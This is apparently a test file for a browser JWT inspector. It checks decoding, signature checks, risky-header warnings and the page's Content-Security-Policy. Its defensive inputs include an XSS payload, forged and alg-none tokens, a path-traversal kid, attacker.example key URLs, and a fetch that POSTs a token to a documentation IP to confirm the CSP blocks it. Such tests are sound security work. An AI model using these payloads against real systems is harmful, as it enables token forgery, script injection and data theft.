// The browser inspector (js-examples/browser-inspector) in headless Debian Chromium, loaded
// from a static server over the repository as a person would open it: native ES modules, the
// package through an import map, no build. Tokens are made here (jwtward's Node entry and
// node:crypto) and pasted into the page; the assertions read what the page shows. Any page
// error or console error fails the test that caused it.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import crypto from "node:crypto";
import { mkdir, readFile, rm, stat } from "node:fs/promises";
import { join } from "node:path";
import { Key, Signer } from "jwtward";
import { ROOT, startServer, launchChromium, watchPage } from "./harness.mjs";

const INSPECTOR = "/js-examples/browser-inspector/";
const JWKS_PATH = "/__test__/jwks.json";
const SCREENSHOT = join(ROOT, "tests/browser/artifacts/inspector.png");
const SECRET = "a-secret-that-is-long-enough-for-hs256-0123";
const XSS = `<img src=x onerror="window.__xss = 1">`;

const b64u = (v) => Buffer.from(typeof v === "string" ? v : JSON.stringify(v)).toString("base64url");
const now = () => Math.floor(Date.now() / 1000);

/** An HS256 token over any header and payload, signed with node:crypto (independently of jwtward). */
function hmacToken(header, payload, secret = SECRET) {
  const input = `${b64u({ alg: "HS256", ...header })}.${b64u(payload)}`;
  return `${input}.${crypto.createHmac("sha256", secret).update(input).digest("base64url")}`;
}

// An EC P-256 and an RSA key pair from node:crypto; tokens are signed with jwtward from their PEM.
const ec = crypto.generateKeyPairSync("ec", { namedCurve: "P-256" });
const ecPublicPem = ec.publicKey.export({ type: "spki", format: "pem" });
const ecJwk = { ...ec.publicKey.export({ format: "jwk" }), kid: "ec-1", alg: "ES256", use: "sig" };
const rsa = crypto.generateKeyPairSync("rsa", { modulusLength: 2048 });
const rsaPublicPkcs1 = rsa.publicKey.export({ type: "pkcs1", format: "pem" });

function signWithPem(privateKey, alg, kid, claims = {}) {
  const key = Key.fromPem(privateKey.export({ type: "pkcs8", format: "pem" }));
  return new Signer(key, { alg, kid, issuer: "https://id.example", audience: "api" }).sign({ sub: "ada", ...claims });
}

let server;
let browser;
let jwksFetches = 0;

before(async () => {
  server = await startServer({
    [JWKS_PATH]: (req, res) => {
      jwksFetches += 1;
      res.writeHead(200, { "content-type": "application/jwk-set+json", "cache-control": "max-age=60" });
      res.end(JSON.stringify({ keys: [ecJwk] }));
    },
  });
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  await server?.close();
});

/** A fresh context and page on the inspector, ready to use; `done()` asserts no page or console errors and closes it. */
async function openInspector(t, { expectedErrors = [] } = {}) {
  const context = await browser.newContext();
  const page = await context.newPage();
  const problems = watchPage(page, expectedErrors);
  const requests = [];
  page.on("request", (r) => requests.push(r.url()));
  await page.goto(server.origin + INSPECTOR);
  await page.waitForSelector("html[data-ready=true]", { timeout: 20_000 }).catch((e) => {
    throw new Error(`the inspector did not start: ${[e.message, ...problems].join("; ")}`);
  });
  t.after(() => context.close());
  return {
    page,
    requests,
    done: () => assert.deepEqual(problems, [], "the page logged errors"),
  };
}

async function paste(page, token) {
  await page.fill("#token", token);
}

/** Fills the verify form and presses Verify; resolves to the result's outcome and text. */
async function verify(page, { kind, key, url, alg, issuer, audience }) {
  if (kind) await page.check(`input[name=key-kind][value=${kind}]`);
  if (key !== undefined) await page.fill("#key-text", key);
  if (url !== undefined) await page.fill("#jwks-url", url);
  if (alg !== undefined) await page.selectOption("#alg", alg);
  if (issuer !== undefined) await page.fill("#issuer", issuer);
  if (audience !== undefined) await page.fill("#audience", audience);
  await page.click("#verify");
  const result = page.locator("#verify-result:not([data-outcome=pending])[data-outcome]");
  await result.waitFor();
  return { outcome: await result.getAttribute("data-outcome"), text: await result.textContent(), code: await errorCode(page) };
}

async function errorCode(page) {
  const code = page.locator("#verify-result .error-code");
  return (await code.count()) ? code.textContent() : null;
}

const warningIds = (page) => page.locator("#warnings li").evaluateAll((items) => items.map((li) => li.dataset.warning));
const relative = (page, claim) => page.locator(`#times tr[data-claim=${claim}] td.relative`).textContent();

test("the CSP's hash admits the page's import map (edit both together)", async () => {
  const html = await readFile(join(ROOT, INSPECTOR, "index.html"), "utf8");
  const importMap = /<script type="importmap">([\s\S]*?)<\/script>/.exec(html)[1];
  const hash = crypto.createHash("sha256").update(importMap).digest("base64");
  const csp = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)[1];
  assert.ok(csp.includes(`'sha256-${hash}'`), `script-src needs 'sha256-${hash}'`);
});

test("HS256 with its secret: header and payload printed, times in words, signature and claims valid", async (t) => {
  const { page, done } = await openInspector(t);
  const token = new Signer(Key.fromSecret(SECRET), { alg: "HS256", kid: "k1", issuer: "https://id.example", audience: "api" }).sign(
    { sub: "ada", auth_time: now() - 2 * 86400 },
    { expiresIn: "12m" },
  );
  await paste(page, `Bearer ${token}`);
  const [header, payload] = token.split(".").slice(0, 2).map((s) => JSON.parse(Buffer.from(s, "base64url")));
  assert.equal(await page.textContent("#header-json"), JSON.stringify(header, null, 2));
  assert.equal(await page.textContent("#payload-json"), JSON.stringify(payload, null, 2));
  assert.equal(await relative(page, "exp"), "expires in 12 min");
  assert.match(await relative(page, "iat"), /^issued \d+ s ago$/);
  assert.equal(await relative(page, "auth_time"), "authenticated 2 d ago");
  assert.match(await page.textContent("#times tr[data-claim=exp]"), new RegExp(new Date(payload.exp * 1000).toISOString().slice(0, 16).replace("T", " ")));
  assert.deepEqual(await warningIds(page), []);
  assert.equal(await page.isVisible("#no-warnings"), true);
  assert.equal(await page.inputValue("#alg"), "HS256", "the algorithm defaults to the header's");

  const r = await verify(page, { key: SECRET, issuer: "https://id.example", audience: "other, api" });
  assert.equal(r.outcome, "valid", r.text);
  assert.match(r.text, /Signature valid/);
  assert.match(r.text, /exp: expires in 12 min/);
  assert.match(r.text, /iss: matches "https:\/\/id\.example"/);
  assert.match(r.text, /aud: includes one of "other", "api"/);

  const wrongIssuer = await verify(page, { issuer: "https://other.example" });
  assert.equal(wrongIssuer.outcome, "claims-failed");
  assert.equal(wrongIssuer.code, "ERR_JWT_CLAIM_VALIDATION_FAILED");
  assert.match(wrongIssuer.text, /claim: iss/);
  done();
});

test("an expired token: relative times in the past, a notice, and ERR_JWT_EXPIRED after a valid signature", async (t) => {
  const { page, done } = await openInspector(t);
  const token = hmacToken({ typ: "JWT" }, { sub: "ada", aud: "api", iat: now() - 4 * 3600, exp: now() - 3 * 3600 });
  await paste(page, token);
  assert.equal(await relative(page, "exp"), "expired 3 h ago");
  assert.equal(await relative(page, "iat"), "issued 4 h ago");
  assert.deepEqual(await warningIds(page), ["expired"]);
  assert.equal(await page.textContent("#lifetime"), "Lifetime (exp − iat): 1 h.");
  const r = await verify(page, { key: SECRET });
  assert.equal(r.outcome, "claims-failed", r.text);
  assert.equal(r.code, "ERR_JWT_EXPIRED");
  assert.match(r.text, /Signature valid/);
  assert.match(r.text, /claim: exp/);
  done();
});

test("a tampered token fails with ERR_JWS_SIGNATURE_VERIFICATION_FAILED, as does a wrong secret", async (t) => {
  const { page, done } = await openInspector(t);
  const [h, , s] = hmacToken({}, { sub: "ada", aud: "api", exp: now() + 600 }).split(".");
  await paste(page, `${h}.${b64u({ sub: "admin", aud: "api", exp: now() + 600 })}.${s}`);
  assert.match(await page.textContent("#payload-json"), /"admin"/, "decoding still shows what the token says");
  let r = await verify(page, { key: SECRET });
  assert.equal(r.outcome, "invalid", r.text);
  assert.equal(r.code, "ERR_JWS_SIGNATURE_VERIFICATION_FAILED");
  assert.match(r.text, /Not verified/);
  await paste(page, hmacToken({}, { sub: "ada", aud: "api", exp: now() + 600 }));
  r = await verify(page, { key: `${SECRET}-but-another-one` });
  assert.equal(r.code, "ERR_JWS_SIGNATURE_VERIFICATION_FAILED");
  r = await verify(page, { key: "short" });
  assert.equal(r.code, "ERR_JWK_INVALID", "a secret too short for HS256 is refused, and said so");
  done();
});

test("alg none: a danger warning, no default algorithm, and ERR_JOSE_ALG_NOT_ALLOWED when verified", async (t) => {
  const { page, done } = await openInspector(t);
  await paste(page, `${b64u({ alg: "none", typ: "JWT" })}.${b64u({ sub: "admin", aud: "api", exp: now() + 600 })}.`);
  assert.deepEqual(await warningIds(page), ["alg-none"]);
  assert.equal(await page.getAttribute("#warnings li[data-warning=alg-none]", "class"), "warning-danger");
  assert.equal(await page.textContent("#signature-info"), "none");
  assert.equal(await page.inputValue("#alg"), "", "none is not offered as the allowed algorithm");
  let r = await verify(page, { key: SECRET });
  assert.equal(r.outcome, "error");
  assert.match(r.text, /Choose the algorithm/);
  r = await verify(page, { alg: "HS256" });
  assert.equal(r.outcome, "invalid");
  assert.equal(r.code, "ERR_JOSE_ALG_NOT_ALLOWED");
  done();
});

test("risky headers and claims are each flagged", async (t) => {
  const { page, done } = await openInspector(t);
  await paste(
    page,
    hmacToken(
      { kid: "https://attacker.example/key", jku: "https://attacker.example/jwks", x5u: "https://attacker.example/cert", jwk: ecJwk, x5c: ["MIIB"], crit: ["exp"], b64: false },
      { sub: "ada", aud: "api" },
    ),
  );
  assert.deepEqual(await warningIds(page), ["jku", "x5u", "jwk", "x5c", "kid-location", "crit", "b64-false", "exp-missing"]);
  assert.equal(await page.getAttribute("#warnings li[data-warning=kid-location]", "class"), "warning-danger", "HS* with a URL kid");
  assert.equal(await page.isVisible("#no-warnings"), false);

  await paste(page, hmacToken({ alg: "ES256", kid: "../../keys/public.pem" }, { iat: now() + 3600, exp: now() + 2 * 86400 + 3600, auth_time: "yesterday" }));
  assert.deepEqual(await warningIds(page), ["kid-location", "auth_time-not-number", "long-lifetime", "iat-future", "aud-missing"]);
  assert.equal(await page.getAttribute("#warnings li[data-warning=kid-location]", "class"), "warning-warning", "a path kid without HS* is a warning");
  assert.match(await page.textContent("#warnings li[data-warning=long-lifetime]"), /Valid for 2 d/);
  assert.equal(await relative(page, "auth_time"), "not a NumericDate (a JSON number of seconds)");
  assert.equal(await relative(page, "iat"), "issued 1 h in the future");
  assert.equal(await page.inputValue("#alg"), "ES256");
  done();
});

test("ES256 verifies with the public key as PEM, as a JWK and in a pasted JWKS", async (t) => {
  const { page, done } = await openInspector(t);
  await paste(page, signWithPem(ec.privateKey, "ES256", "ec-1"));
  assert.equal(await page.isChecked("input[name=key-kind][value=pem]"), true, "an asymmetric alg defaults to a PEM key");
  let r = await verify(page, { key: ecPublicPem, issuer: "https://id.example", audience: "api" });
  assert.equal(r.outcome, "valid", r.text);
  const { kid: _kid, ...jwkWithoutKid } = ecJwk;
  r = await verify(page, { kind: "jwk", key: JSON.stringify(jwkWithoutKid) });
  assert.equal(r.outcome, "valid", `a lone JWK takes the token's kid: ${r.text}`);
  r = await verify(page, { kind: "jwk", key: JSON.stringify({ keys: [ecJwk] }) });
  assert.equal(r.outcome, "valid", r.text);
  r = await verify(page, { kind: "jwk", key: JSON.stringify({ keys: [{ ...ecJwk, kid: "other" }] }) });
  assert.equal(r.code, "ERR_JWKS_NO_MATCHING_KEY");
  r = await verify(page, { kind: "jwk", key: "{ not json" });
  assert.equal(r.outcome, "invalid");
  assert.match(r.text, /The JWK is not valid JSON/);
  done();
});

test("ES256 verifies through a JWKS URL, fetched only when Verify is pressed", async (t) => {
  const { page, requests, done } = await openInspector(t);
  const jwksUrl = server.origin + JWKS_PATH;
  await paste(page, signWithPem(ec.privateKey, "ES256", "ec-1"));
  await page.check("input[name=key-kind][value=jwks-url]");
  await page.fill("#jwks-url", jwksUrl);
  assert.equal(requests.includes(jwksUrl), false, "nothing fetched before Verify");
  const before = jwksFetches;
  const r = await verify(page, { audience: "api" });
  assert.equal(r.outcome, "valid", r.text);
  assert.equal(jwksFetches - before, 1);
  assert.deepEqual(requests.filter((u) => u === jwksUrl), [jwksUrl]);

  await paste(page, signWithPem(ec.privateKey, "ES256", "rotated-away"));
  const missing = await verify(page, {});
  assert.equal(missing.code, "ERR_JWKS_NO_MATCHING_KEY", missing.text);
  done();
});

test("RS256 verifies with a PKCS#1 public key; the EC key is refused for it", async (t) => {
  const { page, done } = await openInspector(t);
  await paste(page, signWithPem(rsa.privateKey, "RS256", "rsa-1"));
  let r = await verify(page, { key: rsaPublicPkcs1 });
  assert.equal(r.outcome, "valid", r.text);
  r = await verify(page, { key: ecPublicPem });
  assert.equal(r.outcome, "invalid");
  assert.equal(r.code, "ERR_JWKS_NO_MATCHING_KEY");
  done();
});

test("markup in a token is shown as text and never runs", async (t) => {
  const { page, done } = await openInspector(t);
  const token = hmacToken({ kid: XSS, typ: `<script>window.__xss = 2</script>` }, { [XSS]: XSS, name: XSS, aud: XSS, exp: now() + 60 });
  await paste(page, token);
  assert.match(await page.textContent("#payload-json"), /<img src=x onerror=\\"window.__xss = 1\\">/);
  assert.match(await page.textContent("#header-json"), /<script>window.__xss = 2<\/script>/);
  const r = await verify(page, { key: SECRET, audience: XSS, issuer: XSS });
  assert.equal(r.code, "ERR_JWT_CLAIM_VALIDATION_FAILED");
  await page.waitForTimeout(200); // an onerror handler would have fired by now
  assert.equal(await page.evaluate(() => window.__xss), undefined);
  assert.equal(await page.locator("img").count(), 0, "no <img> element was created");
  assert.equal(await page.locator("body script").count(), 0, "no <script> element was created");
  done();
});

test("input that is not a token shows the error code, and clearing it resets the page", async (t) => {
  const { page, done } = await openInspector(t);
  for (const [input, code] of [
    ["not-a-token", "ERR_JWS_INVALID"],
    ["a.b.c", "ERR_JWS_INVALID"],
    [`${b64u({ alg: "HS256" })}.${b64u([1, 2])}.AAAA`, "ERR_JWT_INVALID"],
  ]) {
    await paste(page, input);
    assert.equal(await page.textContent("#decode-status .error-code"), code, input);
    assert.equal(await page.isVisible("#decoded"), false);
  }
  await paste(page, "");
  assert.equal(await page.textContent("#decode-status"), "Paste a token to decode it.");
  const r = await verify(page, { key: SECRET });
  assert.match(r.text, /Paste a token first/);
  done();
});

test("nothing leaves the page: only its own files load, and the CSP blocks other connections", async (t) => {
  const { page, requests, done } = await openInspector(t, { expectedErrors: [/Content Security Policy/] });
  await paste(page, hmacToken({}, { sub: "ada", aud: "api", exp: now() + 600 }));
  await verify(page, { key: SECRET });
  const foreign = requests.filter((u) => !u.startsWith(`${server.origin}/`));
  assert.deepEqual(foreign, []);
  assert.deepEqual(
    requests.map((u) => new URL(u).pathname).sort(),
    [
      `${INSPECTOR}`,
      `${INSPECTOR}inspector.mjs`,
      `${INSPECTOR}style.css`,
      "/pkg/index.browser.mjs",
      "/pkg/src/hosts/webcrypto.js",
      "/pkg/dist/slim/web/jwtward_core.js",
      "/pkg/dist/slim/web/jwtward_core_wasm.mjs",
      ...["api", "bearer", "decode-core", "discovery", "errors", "jwks-response", "jwks-stores", "key-set", "key", "options", "refresh-tokens", "remote-key-set"].map((m) => `/pkg/src/${m}.js`),
      ...["revocation", "signer", "stores/contract", "stores/memory", "stores/redis-client", "stores/redis-cluster", "stores/redis-scripts", "stores/redis", "tables", "token-cache", "verifier", "web-runtime"].map((m) => `/pkg/src/${m}.js`),
    ].sort(),
  );
  const violation = await page.evaluate(async () => {
    const seen = new Promise((resolve) => document.addEventListener("securitypolicyviolation", (e) => resolve(e.effectiveDirective), { once: true }));
    await fetch("http://192.0.2.1/collect", { method: "POST", body: "token" }).catch(() => {});
    return seen;
  });
  assert.equal(violation, "connect-src");
  done();
});

test("a screenshot of the inspector with a verified token", async (t) => {
  const { page, done } = await openInspector(t);
  await page.setViewportSize({ width: 1200, height: 900 });
  const token = new Signer(Key.fromSecret(SECRET), { alg: "HS256", kid: "2026-11", issuer: "https://id.example", audience: "api" }).sign(
    { sub: "ada", scope: "orders:read", roles: ["admin"], auth_time: now() - 3600 },
    { expiresIn: "36h" }, // a lifetime the page warns about, so the picture shows a warning too
  );
  await paste(page, token);
  await verify(page, { key: SECRET, issuer: "https://id.example", audience: "api" });
  await rm(SCREENSHOT, { force: true });
  await mkdir(join(ROOT, "tests/browser/artifacts"), { recursive: true });
  await page.screenshot({ path: SCREENSHOT, fullPage: true });
  assert.ok((await stat(SCREENSHOT)).size > 10_000, "the screenshot is a real picture");
  done();
});
